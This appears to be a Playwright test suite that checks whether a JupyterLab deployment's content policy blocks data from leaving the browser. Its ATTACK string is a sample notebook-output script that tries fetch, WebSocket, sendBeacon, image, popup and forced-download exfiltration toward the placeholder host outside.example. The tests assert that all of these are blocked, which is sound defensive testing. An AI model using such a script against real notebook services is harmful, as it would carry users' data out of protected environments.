"""JupyterLab in a real browser: it works under the content policy, and the policy holds."""

import shutil
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, sync_playwright

from .conftest import PREFIX, Running

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
OUTSIDE = "https://outside.example/"
ATTACK = f"""from IPython.display import HTML
HTML('''<p id="shown">shown</p><a id="out" download="data.csv" href="data:text/csv,1,2,3">out</a>
<img id="picture" src="{OUTSIDE}picture.png?d=4711">
<script>
window.tried = {{}};
document.getElementById("out").click();
fetch("{OUTSIDE}?d=4711").then(() => tried.fetch = "went").catch(() => tried.fetch = "blocked");
try {{ new WebSocket("wss://outside.example/"); }} catch (e) {{ tried.socket = "blocked"; }}
tried.beacon = navigator.sendBeacon("{OUTSIDE}", "4711");
const made = document.createElement("a");
made.href = URL.createObjectURL(new Blob(["4711"])); made.download = "blob.csv";
document.body.appendChild(made); made.click();
tried.popup = window.open("{OUTSIDE}") === null ? "blocked" : "went";
</script>''')"""


@pytest.fixture(scope="module")
def lab(running: Running) -> Iterator[tuple[Page, dict[str, list[str]]]]:
    """JupyterLab with a notebook open, after a log-in through the hub; and what the page asked for."""
    seen: dict[str, list[str]] = {"requests": [], "downloads": [], "refused": []}
    cell = {
        "id": "a",
        "cell_type": "code",
        "source": "",
        "metadata": {},
        "execution_count": None,
        "outputs": [],
    }
    kernel = {"name": "synthetic-data", "display_name": "Synthetic data", "language": "python"}
    content = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": kernel}, "cells": [cell]}
    running.json("PUT", "api/contents/browser.ipynb", {"type": "notebook", "content": content})
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        page = browser.new_page(accept_downloads=True)
        page.set_default_timeout(60_000)
        page.on("request", lambda request: seen["requests"].append(request.url))
        page.on("websocket", lambda socket: seen["requests"].append(socket.url))
        page.on("download", lambda download: seen["downloads"].append(download.suggested_filename))
        page.on(
            "response",
            lambda answer: answer.status >= 400 and seen["refused"].append(f"{answer.status} {answer.url}"),
        )
        page.goto(f"http://127.0.0.1:{running.port}{PREFIX}lab/tree/browser.ipynb")
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
        yield page, seen
        browser.close()


def run(page: Page, code: str) -> Any:
    """Type into the last cell and run it."""
    cell = page.locator(".jp-Notebook .jp-CodeCell").last
    cell.locator(".cm-content").click()
    page.keyboard.press("Control+A")
    page.keyboard.insert_text(code)
    page.keyboard.press("Shift+Enter")
    return cell


def test_lab_loads_and_asks_for_nothing_outside(
    running: Running, lab: tuple[Page, dict[str, list[str]]]
) -> None:
    _, seen = lab

    there = {urlsplit(url).hostname for url in seen["requests"] if not url.startswith(("data:", "blob:"))}
    assert there == {"127.0.0.1"}
    assert not [line for line in seen["refused"] if "/static/" in line or "/lab/extensions/" in line]


def test_the_page_holds_no_token(lab: tuple[Page, dict[str, list[str]]]) -> None:
    config = lab[0].evaluate("JSON.parse(document.getElementById('jupyter-config-data').textContent)")

    assert config["token"] == ""
    assert config["sundbench"]["project"] == "lung-cancer"
    assert not [
        value for value in config.values() if str(value).startswith("http") and "127.0.0.1" not in value
    ]


def test_a_cell_runs_and_is_recorded(running: Running, lab: tuple[Page, dict[str, list[str]]]) -> None:
    page, _ = lab

    run(page, "print('six times seven is', 6 * 7)")

    page.wait_for_selector("text=six times seven is 42", timeout=60_000)
    assert "6 * 7" in running.writer.last("execute")["detail"]["code"]


def test_nothing_leaves_by_a_cells_own_html(running: Running, lab: tuple[Page, dict[str, list[str]]]) -> None:
    page, seen = lab

    run(page, ATTACK)
    page.wait_for_selector("#shown", timeout=60_000)
    page.wait_for_function("window.tried && window.tried.fetch")

    tried = page.evaluate("window.tried")
    assert tried["fetch"] == "blocked"
    assert tried["popup"] == "blocked"
    assert page.evaluate("document.getElementById('picture').naturalWidth") == 0
    page.locator("#out").click()
    page.wait_for_timeout(500)
    assert seen["downloads"] == []


def test_a_cookie_alone_changes_nothing(lab: tuple[Page, dict[str, list[str]]]) -> None:
    """Another site's form would bring the cookie, and not the page's own header."""
    ask = f"""fetch("{PREFIX}api/contents", {{method: "POST", body: "{{}}"}}).then(answer => answer.status)"""

    assert lab[0].evaluate(ask) == 403


def test_menus_offer_no_way_out(lab: tuple[Page, dict[str, list[str]]]) -> None:
    page, _ = lab

    page.locator("text=File").first.click()
    page.wait_for_selector(".lm-Menu-itemLabel")
    labels = page.locator(".lm-Menu-itemLabel").all_inner_texts()
    page.keyboard.press("Escape")

    assert any("Save" in label for label in labels)
    for gone in ("Download", "Export", "Terminal", "Print", "URL"):
        assert not [label for label in labels if gone in label], gone


def test_a_new_browser_without_login_sees_the_hub(running: Running) -> None:
    """The cookie is the login; the page has nothing that could be carried away."""
    status, headers, _ = running.ask("GET", "lab", user=None)

    assert status == 302
    assert headers["Location"].startswith(f"http://127.0.0.1:{running.hub.port}/hub/")
